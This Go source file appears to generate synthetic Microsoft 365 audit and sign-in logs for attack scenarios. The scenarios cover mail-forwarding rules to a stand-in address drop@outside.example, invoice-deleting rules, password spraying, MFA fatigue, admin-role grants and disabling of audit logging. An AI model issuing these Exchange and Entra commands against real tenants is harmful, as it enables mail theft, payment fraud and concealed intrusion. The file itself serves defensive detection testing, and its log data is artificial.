package main

import (
	"fmt"
	"time"
)

func mailboxTales() []tale {
	rule := func(params ...string) func(*story) {
		return func(s *story) {
			s.enter(s.victim, nil)
			s.command(s.later(15), "New-InboxRule", s.victim, s.from.ip, s.victim.upn+"\\rule", params...)
			s.take(s.victim, s.victim, 2, nil)
		}
	}
	command := func(name string, params ...string) func(*story) {
		return func(s *story) {
			s.enter(s.admin, nil)
			s.command(s.later(15), name, s.admin, s.from.ip, s.victim.upn, append([]string{"Identity", s.victim.upn}, params...)...)
		}
	}
	return []tale{
		{"rule forwards", rule("Name", "sync", "ForwardTo", "drop@outside.example")},
		{"rule deletes invoices", rule("Name", "..", "SubjectOrBodyContainsWords", "invoice;payment;iban", "DeleteMessage", "True")},
		{"rule hides in feeds", rule("Name", "a", "SubjectContainsWords", "wire;bank", "MoveToFolder", "RSS Feeds", "MarkAsRead", "True")},
		{"rule redirects", rule("Name", "Archive mail", "RedirectTo", "keep@outside.example")},
		{"mailbox forwards", command("Set-Mailbox", "ForwardingSmtpAddress", "smtp:drop@outside.example", "DeliverToMailboxAndForward", "True")},
		{"transport rule", command("New-TransportRule", "Name", "Footer", "BlindCopyTo", "drop@outside.example")},
		{"journal rule", command("New-JournalRule", "Name", "Compliance", "JournalEmailAddress", "drop@outside.example")},
		{"full access", func(s *story) {
			command("Add-MailboxPermission", "User", s.admin.upn, "AccessRights", "FullAccess")(s)
			s.take(s.admin, s.victim, 3, record{"LogonType": 2})
		}},
		{"bulk reading", func(s *story) {
			s.enter(s.victim, nil)
			s.take(s.victim, s.victim, 12, record{"ClientInfoString": "Client=REST;Client=RESTSystem2;;", "ClientAppId": s.app.app})
		}},
		{"sweep", func(s *story) {
			s.enter(s.victim, nil)
			items := []record{}
			for i := range 150 + s.IntN(100) {
				items = append(items, record{"Subject": fmt.Sprintf("Re: offer %d", i), "InternetMessageId": "<" + s.tokenID() + "@fabrikam.example>", "ParentFolder": record{"Path": "\\Inbox"}})
			}
			s.unified(s.later(20), "HardDelete", "Exchange", 3, s.victim, s.from.ip, record{
				"MailboxOwnerUPN": s.victim.upn, "LogonType": 0, "ClientIPAddress": s.from.ip, "ClientInfoString": "Client=OWA;Action=ViaProxy", "SessionId": s.victim.session, "AffectedItems": items, "Folder": record{"Path": "\\Inbox"},
			})
		}},
	}
}

// guess tries passwords on p.
func (s *story) guess(p *worker, code int, more record) {
	s.at = s.at.Add(time.Duration(2+s.IntN(20)) * time.Second)
	change := failed(code)
	change["deviceDetail"] = unknownDevice
	for k, v := range more {
		change[k] = v
	}
	s.signIn(p, s.from, s.at, "interactiveUser", change)
}

func (s *story) spray(more record) {
	for i := range 15 + s.IntN(20) {
		s.guess(s.people[(i*7+s.IntN(7))%len(s.people)], 50126, more)
	}
}

func signInTales() []tale {
	enter := func(more record) func(*story) { return func(s *story) { s.enter(s.victim, more) } }
	return []tale{
		{"spray that fails", func(s *story) { s.spray(nil) }},
		{"spray with a hit", func(s *story) { s.spray(nil); s.enter(s.victim, nil) }},
		{"guessing with a hit", func(s *story) {
			for range 12 + s.IntN(20) {
				s.guess(s.victim, 50126, nil)
			}
			s.enter(s.victim, nil)
		}},
		{"IMAP", enter(record{"clientAppUsed": "IMAP4", "authenticationRequirement": "singleFactorAuthentication", "userAgent": "BAV2ROPC", "authenticationProtocol": "ropc"})},
		{"script with password", enter(record{"userAgent": "python-requests/2.31.0", "authenticationProtocol": "ropc", "authenticationRequirement": "singleFactorAuthentication"})},
		{"new country", enter(nil)},
		{"impossible travel", func(s *story) {
			s.victim.session = s.guid()
			s.signIn(s.victim, s.victim.office, s.at, "interactiveUser", nil)
			s.at = s.at.Add(40 * time.Minute)
			s.enter(s.victim, nil)
		}},
		{"MFA fatigue", func(s *story) {
			for range 8 + s.IntN(10) {
				s.guess(s.victim, 500121, nil)
			}
			s.enter(s.victim, nil)
		}},
		{"spray over Azure CLI", func(s *story) {
			s.spray(record{"appId": "04b07795-8ddb-461a-bbee-02f9e1bf7b46", "appDisplayName": "Microsoft Azure CLI", "userAgent": "Go-http-client/1.1", "authenticationProtocol": "ropc"})
		}},
		{"lockouts", func(s *story) {
			for i := range 12 + s.IntN(12) {
				s.guess(s.people[(i*11)%len(s.people)], 50053, nil)
			}
		}},
	}
}

func persistenceTales() []tale {
	operate := func(name, category string, changed ...string) func(*story) {
		return func(s *story) {
			s.enter(s.admin, nil)
			s.administer(name, category, target{s.victim.id, "User", "", s.victim.upn}, changed...)
		}
	}
	policy := func(name string, changed ...string) func(*story) {
		return func(s *story) {
			s.enter(s.admin, nil)
			s.administer(name, "Policy", target{s.guid(), "Policy", "Require MFA", ""}, changed...)
		}
	}
	command := func(name string, params ...string) func(*story) {
		return func(s *story) {
			s.enter(s.admin, nil)
			s.command(s.later(15), name, s.admin, s.from.ip, s.victim.upn, append([]string{"Identity", s.victim.upn}, params...)...)
		}
	}
	return []tale{
		{"global administrator", operate("Add member to role", "RoleManagement", "Role.DisplayName", `"Global Administrator"`, "Role.TemplateId", `"62e90394-69f5-4237-9190-012177145e10"`)},
		{"temporary pass", operate("Admin registered security info", "UserManagement")},
		{"own method", func(s *story) {
			s.enter(s.victim, nil)
			s.direct(s.later(9), "User registered security info", "UserManagement", s.victim, s.from.ip, target{s.victim.id, "User", "", s.victim.upn})
		}},
		{"MFA off", operate("Disable Strong Authentication", "UserManagement")},
		{"policy deleted", policy("Delete conditional access policy")},
		{"policy weakened", policy("Update conditional access policy", "ConditionalAccessPolicy", `{"state":"disabled"}`)},
		{"location trusted", policy("Add named location", "NamedLocation", `{"isTrusted":true}`)},
		{"guest made member", operate("Update user", "UserManagement", "UserType", `["Member"]`)},
		{"audit log off", command("Set-AdminAuditLogConfig", "UnifiedAuditLogIngestionEnabled", "False")},
		{"audit bypassed", command("Set-MailboxAuditBypassAssociation", "AuditBypassEnabled", "True")},
	}
}
